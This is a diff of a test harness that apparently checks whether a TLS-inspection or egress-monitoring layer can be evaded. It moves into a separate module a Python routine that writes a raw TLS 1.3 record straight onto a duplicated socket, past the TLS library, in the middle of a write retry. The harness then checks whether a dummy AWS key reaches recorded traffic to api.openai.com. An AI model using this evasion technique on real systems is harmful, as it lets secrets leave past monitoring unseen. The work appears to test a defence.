@@ -80,22 +80,11 @@ if mode == "collide":
     first = bytes(broken)
     assert key not in first
 smuggled = None
-def smuggle():
-    # a TLS 1.3 record of application data no probe saw, written on the
-    # socket past the TLS library before the repeat. It starts where the
-    # records sk_msg walked end: here the kernel keeps the unsent rest of
-    # the record the failed call half sent for the socket (TCP had 127
-    # bytes of it), so no filler goes first (evasion.py wantwrite, over
-    # HTTP/1.1, needs one)
-    assert s.version() == "TLSv1.3", s.version()
-    text = b"SMUGGLED-RECORD-" + b"0" * 480
-    w = socket.socket(fileno=os.dup(s.fileno()))
-    w.settimeout(3)
-    try:
-        w.sendall(b"\x17\x03\x03" + len(text).to_bytes(2, "big") + text)
-        return "left"
-    except OSError as e:
-        return "refused %s" % e.errno
+# the record starts where the records sk_msg walked end: here the kernel
+# keeps the unsent rest of the record the failed call half sent for the
+# socket (TCP had 127 bytes of it), so no filler goes first (evasion.py
+# wantwrite, over HTTP/1.1, needs one)
+from tls_smuggle import record_past_library
 s.setblocking(False)
 wants, sent, err, buf = 0, False, None, first
 t_end = time.time() + 20
@@ -109,7 +98,7 @@ while time.time() < t_end:
     except ssl.SSLWantWriteError:
         wants += 1
         if mode == "smuggle" and smuggled is None:
-            smuggled = smuggle()
+            smuggled = record_past_library(s)
             open(release, "w").close()  # the provider reads again
         buf = again  # the repeat: OpenSSL reads what it had not encrypted from here
         select.select([], [s], [], 1)
@@ -120,7 +109,7 @@ print(json.dumps({"wants": wants, "sent": sent, "error": err, "smuggled": smuggl
 time.sleep(1)
 '
 attack() { # NAME MODE
-	client "$1" /usr/bin/python3 -c "$ATTACK" api.openai.com "$H_CA" "$2" "$H_WORK/release-$1"
+	client "$1" env PYTHONPATH="$H_LIB" /usr/bin/python3 -c "$ATTACK" api.openai.com "$H_CA" "$2" "$H_WORK/release-$1"
 }
 key_at_provider() {
 	cat "$H_REC/$IP_OPENAI"/conn-*.raw 2>/dev/null | grep -ac AKIAIOSFODNN7EXAMPLE || true
